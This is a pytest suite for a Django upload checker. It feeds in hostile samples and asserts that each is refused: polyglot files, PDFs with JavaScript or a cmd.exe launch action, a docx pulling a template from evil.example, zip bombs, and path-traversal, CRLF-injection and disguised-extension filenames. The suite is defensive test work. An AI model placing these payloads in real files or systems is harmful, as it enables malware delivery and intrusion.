"""Hostile and honest uploads: what a file is, its content says (MKT-11; IX FAQ)."""

import io
import struct
import time
import zipfile
import zlib
from contextlib import suppress
from pathlib import Path

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import models
from django.db.models.fields.files import FieldFile
from django.utils import translation
from hypothesis import given, settings
from hypothesis import strategies as st

from common.uploads import MEGABYTE, Kind, RandomName, UploadField, UploadRefused, checked, storing
from common.uploads.names import MOST_LETTERS, clean_name
from tests.common.files import CONTENT_TYPES, a_doc, a_docx, a_pdf, a_picture, a_zip, padded

EVERY = tuple(Kind)
WITH_MACROS = CONTENT_TYPES.replace("officedocument", "macroEnabled")
SCRIPT = b"<script>alert(1)</script>"


def look(content: bytes, name: str = "paper", kinds: tuple[Kind, ...] = EVERY):
    return checked(SimpleUploadedFile(name, content), kinds=kinds, most_bytes=MEGABYTE)


def refusal_of(content: bytes, name: str = "paper", kinds: tuple[Kind, ...] = EVERY) -> str:
    with pytest.raises(UploadRefused) as refused:
        look(content, name, kinds)
    return refused.value.code or ""


@pytest.mark.parametrize(
    ("content", "kind", "name", "content_type"),
    [
        (a_pdf(), Kind.PDF, "paper.pdf", "application/pdf"),
        (a_picture(), Kind.JPG, "paper.jpg", "image/jpeg"),
        (a_picture(progressive=True), Kind.JPG, "paper.jpg", "image/jpeg"),
        (a_picture("PNG"), Kind.PNG, "paper.png", "image/png"),
        (a_doc(), Kind.WORD, "paper.doc", "application/msword"),
        (
            a_docx(),
            Kind.WORD,
            "paper.docx",
            "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
        ),
    ],
)
def test_honest_files_are_taken_for_what_they_are(content: bytes, kind: Kind, name: str, content_type: str):
    found = look(content)

    assert (found.kind, found.name, found.content_type, found.size) == (kind, name, content_type, len(content))


def test_a_pdf_whose_objects_are_compressed_is_taken():
    assert look(a_pdf(packed=b"10 0 << /Type /Font >>")).kind is Kind.PDF


def test_the_limit_is_exact_to_the_byte():
    most = padded(a_pdf(), MEGABYTE)

    assert look(most).size == 1_048_576
    assert refusal_of(padded(a_pdf(), MEGABYTE + 1)) == "TooLarge"


HOSTILE = {
    # nothing, or not what is asked for
    "empty": (b"", "Empty"),
    "a program named like a PDF": (b"MZ\x90\x00" * 20, "WrongKind"),
    "a page named like a PDF": (b"<html>" + SCRIPT, "WrongKind"),
    "a picture of another kind": (b"GIF89a" + b"\0" * 40, "WrongKind"),
    "a drawing with a script": (b"<svg xmlns='http://www.w3.org/2000/svg'>" + SCRIPT + b"</svg>", "WrongKind"),
    "an archive": (a_zip("notes.txt", b"x"), "Damaged"),
    # two things at once
    "PDF and archive": (a_pdf() + a_zip(), "HasMore"),
    "archive inside a PDF's comment": (a_pdf().replace(b"startxref", b"%" + a_zip() + b"\nstartxref"), "HasMore"),
    "PDF with a page behind it": (a_pdf() + b"<html>" + SCRIPT, "HasMore"),
    "PDF with a page in front": (a_pdf().replace(b"%PDF-1.7\n", b"%PDF-1.7\n%" + SCRIPT + b"\n"), "HasMore"),
    "JPG with a script behind it": (a_picture() + SCRIPT, "HasMore"),
    "JPG with a script in its comment": (a_picture(comment=SCRIPT), "HasMore"),
    "JPG and PHAR": (a_picture() + b"<?php __HALT_COMPILER(); ?>", "HasMore"),
    "JPG and JAR": (a_picture() + a_zip("META-INF/MANIFEST.MF"), "HasMore"),
    "JPG and PDF": (a_picture(comment=b"%PDF-1.4"), "HasMore"),
    "PNG and JAR": (a_picture("PNG") + a_zip(), "HasMore"),
    "PNG with a page behind it": (a_picture("PNG") + b"<html>", "HasMore"),
    "Word and PDF": (a_docx() + a_pdf(), "HasMore"),
    "something before the document": (b"PK\x03\x04 %PDF-1.4" + a_docx(), "HasMore"),
    # not whole
    "half a JPG": (a_picture(size=(200, 200))[:900], "Damaged"),
    "a JPG of its first bytes": (b"\xff\xd8\xff", "Damaged"),
    "a JPG without a picture": (b"\xff\xd8\xff\xe0\x00\x04ab\xff\xd9", "Damaged"),
    "half a PNG": (a_picture("PNG", (200, 200))[:-40], "Damaged"),
    "a PNG with a chunk that lies": (b"\x89PNG\r\n\x1a\n" + struct.pack(">I4s", 2**31, b"IHDR"), "Damaged"),
    "half a PDF": (a_pdf()[:-60], "Damaged"),
    "a PDF of its first bytes": (b"%PDF-1.7\n", "Damaged"),
    "half a docx": (a_docx()[:-30], "Damaged"),
    "a docx without a document": (a_docx(without=("word/document.xml",)), "Damaged"),
    "a docx without its table": (a_docx(without=("[Content_Types].xml",)), "Damaged"),
    "a doc of its first bytes": (a_doc()[:40], "Damaged"),
    "a compound file of something else": (a_doc().replace(b"W\0o\0r\0d\0", b"B\0o\0o\0k\0"), "Damaged"),
    # programs
    "PDF with a script": (a_pdf(b"4 0 obj\n<< /S /JavaScript /JS (app.alert(1)) >>\nendobj\n"), "HasPrograms"),
    "PDF with a script, spelled": (a_pdf(b"4 0 obj\n<< /S /J#61vaScript /JS (1) >>\nendobj\n"), "HasPrograms"),
    "PDF with a script, compressed": (a_pdf(packed=b"10 0 << /S /JavaScript /JS (1) >>"), "HasPrograms"),
    "PDF that starts a program": (a_pdf(b"4 0 obj\n<< /S /Launch /F (cmd.exe) >>\nendobj\n"), "HasPrograms"),
    "PDF with a file in it": (a_pdf(b"4 0 obj\n<< /Type /EmbeddedFile >>\nendobj\n"), "HasPrograms"),
    "docx with macros": (a_docx({"word/vbaProject.bin": b"x"}), "HasPrograms"),
    "docm named docx": (a_docx({"[Content_Types].xml": WITH_MACROS}), "HasPrograms"),
    "docx with a program": (a_docx({"word/media/run.exe": b"MZ"}), "HasPrograms"),
    "docx that is a JAR": (a_docx({"META-INF/MANIFEST.MF": "Main-Class: A", "A.class": b"x"}), "HasPrograms"),
    "docx with a template from elsewhere": (
        a_docx(
            {
                "word/_rels/settings.xml.rels": '<Relationship Type="http://x/attachedTemplate" '
                'Target="http://evil.example/a.dotm" TargetMode="External"/>'
            }
        ),
        "HasPrograms",
    ),
    "doc with macros": (a_doc("Macros"), "HasPrograms"),
    # passwords
    "PDF with a password": (a_pdf(trailer=b"/Encrypt 5 0 R"), "IsLocked"),
    "doc with a password": (a_doc(flags=0x0100), "IsLocked"),
    "docx with a password": (a_doc("EncryptedPackage"), "IsLocked"),
    # bombs
    "docx that unpacks to 40 MB": (a_docx({"word/media/a.xml": b"\0" * (40 * MEGABYTE)}), "TooMuchInside"),
    "docx that grows a thousandfold": (a_docx({"word/media/a.xml": b"\0" * (8 * MEGABYTE)}), "TooMuchInside"),
    "docx of 2,000 parts": (a_docx({f"word/media/{n}.xml": b"" for n in range(2000)}), "TooMuchInside"),
    "PDF that unpacks to 40 MB": (a_pdf(packed=b" " * (40 * MEGABYTE)), "TooMuchInside"),
    # paths
    "docx with a path upwards": (a_docx({"../../etc/cron.d/x.xml": b"x"}), "HasMore"),
    "docx with an absolute path": (a_docx({"/etc/passwd.xml": b"x"}), "HasMore"),
}  # fmt: skip


@pytest.mark.parametrize("what", HOSTILE)
@pytest.mark.parametrize("name", ["paper.pdf", "paper.jpg", "paper.docx"])
def test_hostile_files_are_refused_whatever_their_name(what: str, name: str):
    content, code = HOSTILE[what]

    assert refusal_of(content, name) == code


def test_a_picture_of_100_megapixels_is_refused_before_it_is_unpacked():
    png = a_picture("PNG")
    large = png[:16] + struct.pack(">II", 10_000, 10_000) + png[24:29] + struct.pack(">I", 0) + png[33:]
    jpg = a_picture()
    frame = jpg.index(b"\xff\xc0")
    tall = jpg[: frame + 5] + struct.pack(">HH", 10_000, 10_000) + jpg[frame + 9 :]

    assert refusal_of(large) == "TooMuchInside"
    assert refusal_of(tall) == "TooMuchInside"


def test_an_archive_that_lies_about_its_size_is_refused():
    """The table says ten bytes; more come out."""
    docx = a_docx({"word/media/a.xml": b"\0" * (20 * MEGABYTE)})
    lying = docx.replace(struct.pack("<I", 20 * MEGABYTE), struct.pack("<I", 10))

    assert refusal_of(lying) == "Damaged"


def test_an_archive_packed_in_an_unusual_way_is_not_unpacked():
    file = io.BytesIO(a_docx())
    with zipfile.ZipFile(file, "a") as archive:
        archive.writestr("word/media/a.xml", b"\0" * MEGABYTE, compress_type=zipfile.ZIP_BZIP2)

    assert refusal_of(file.getvalue()) in ("Damaged", "TooMuchInside")


def test_a_kind_that_is_not_asked_for_is_refused_with_those_that_are():
    with pytest.raises(UploadRefused) as refused:
        look(a_docx(), "paper.pdf", (Kind.PDF, Kind.JPG))

    assert refused.value.messages == ["This is no PDF or JPG file, whatever its name says. Choose another one."]


def test_a_refusal_is_said_in_the_readers_language():
    with pytest.raises(UploadRefused) as refused:
        look(b"")
    with translation.override("sv"):
        assert refused.value.messages == ["Filen är tom."]


def test_a_picture_named_like_a_pdf_is_kept_as_a_picture():
    """The content decides, so a person who renamed a scan is not sent away."""
    assert look(a_picture(), "scan.pdf").name == "scan.jpg"


@pytest.mark.parametrize(
    ("name", "cleaned"),
    [
        ("RUT form.pdf", "RUT form.pdf"),
        ("cédula.PDF", "cédula.PDF"),
        ("../../etc/passwd", "passwd.pdf"),
        ("..\\..\\boot.pdf", "boot.pdf"),
        ("/absolute/a.pdf", "a.pdf"),
        ("", "file.pdf"),
        (".pdf", "file.pdf"),
        ("...", "file.pdf"),
        ("CON.pdf", "_CON.pdf"),
        ("nul", "_nul.pdf"),
        ("a\0b.pdf", "ab.pdf"),
        ("a\r\nSet-Cookie: x.pdf", "aSet-Cookie_ x.pdf"),
        ("\u202efdp.exe", "fdp.pdf"),
        ("paper.exe", "paper.pdf"),
        ('a"b<c>.pdf', "a_b_c_.pdf"),
        ("x" * 300 + ".pdf", "x" * (MOST_LETTERS - 4) + ".pdf"),
    ],
)
def test_names_are_made_harmless(name: str, cleaned: str):
    assert clean_name(name, ".pdf", (".pdf",)) == cleaned


@given(st.text(max_size=400))
def test_no_name_is_a_path_or_misleads(name: str):
    cleaned = clean_name(name, ".pdf", (".pdf",))

    assert cleaned.lower().endswith(".pdf")
    assert 5 <= len(cleaned) <= MOST_LETTERS + 1
    assert not set(cleaned) & set('/\\\0\r\n"<>|:*?')
    assert cleaned.isprintable()


@settings(max_examples=200, deadline=None)
@given(
    st.sampled_from([b"%PDF-1.7\n", b"\xff\xd8\xff", b"\x89PNG\r\n\x1a\n", b"PK\x03\x04", a_doc()[:600]]), st.binary()
)
def test_noise_behind_an_honest_beginning_is_refused(start: bytes, noise: bytes):
    assert refusal_of(start + noise)


@settings(max_examples=150, deadline=None)
@given(st.sampled_from([a_pdf(), a_picture(), a_picture("PNG"), a_docx(), a_doc()]), st.data())
def test_a_file_with_one_byte_changed_is_taken_or_refused_but_never_a_fault(honest: bytes, data: st.DataObject):
    place = data.draw(st.integers(0, len(honest) - 1))
    changed = honest[:place] + bytes([honest[place] ^ data.draw(st.integers(1, 255))]) + honest[place + 1 :]

    with suppress(UploadRefused):
        assert look(changed).size == len(honest)


def test_the_field_says_what_it_takes():
    field = UploadField(kinds=(Kind.PDF, Kind.JPG, Kind.WORD, Kind.PNG), most_bytes=MEGABYTE)

    assert str(field.help_text) == "PDF, JPG, Word, or PNG, at most 1 MB."
    assert field.widget.attrs["accept"] == ".pdf,.jpg,.jpeg,.docx,.doc,.png"


def test_the_field_gives_what_was_found_and_the_file():
    upload = UploadField(kinds=EVERY, most_bytes=MEGABYTE).clean(SimpleUploadedFile("..\\a.pdf", a_pdf()))

    assert upload.name == "a.pdf"
    assert upload.file.read() == a_pdf()


class Paper:
    """Stands for a model with a file, without a table."""

    def __init__(self) -> None:
        field = models.FileField(upload_to=RandomName("papers"))
        field.set_attributes_from_name("file")
        self.file = FieldFile(self, field, "")  # type: ignore[arg-type]


def test_a_file_lies_under_a_random_name_and_goes_with_its_transaction(settings: object, tmp_path: Path):
    settings.MEDIA_ROOT = tmp_path
    upload = UploadField(kinds=EVERY, most_bytes=MEGABYTE).clean(SimpleUploadedFile("mine.pdf", a_pdf()))
    kept, gone = Paper(), Paper()

    with storing() as files:
        files.keep(kept.file, upload)
    with suppress(ZeroDivisionError), storing() as files:
        files.keep(gone.file, upload)
        raise ZeroDivisionError

    stored = [path for path in tmp_path.rglob("*") if path.is_file()]
    assert [path.read_bytes() for path in stored] == [a_pdf()]
    assert "mine" not in str(stored[0].relative_to(tmp_path))


def test_many_beginnings_without_an_end_take_no_time():
    """What would make a careless pattern read a file again and again."""
    streams = b"<< >>\nstream\n" * 70_000
    began = time.perf_counter()

    look(b"%PDF-1.7\n" + streams + b"\nstartxref\n0\n%%EOF")

    assert time.perf_counter() - began < 5


def test_noise_that_unpacks_is_bounded():
    packed = zlib.compress(b"x" * 100)
    content = b"%PDF-1.7\n" + (b"1 0 obj << /Type /ObjStm >>\nstream\n" + packed) * 5000 + b"\nstartxref\n0\n%%EOF"

    assert refusal_of(content) == "TooMuchInside"
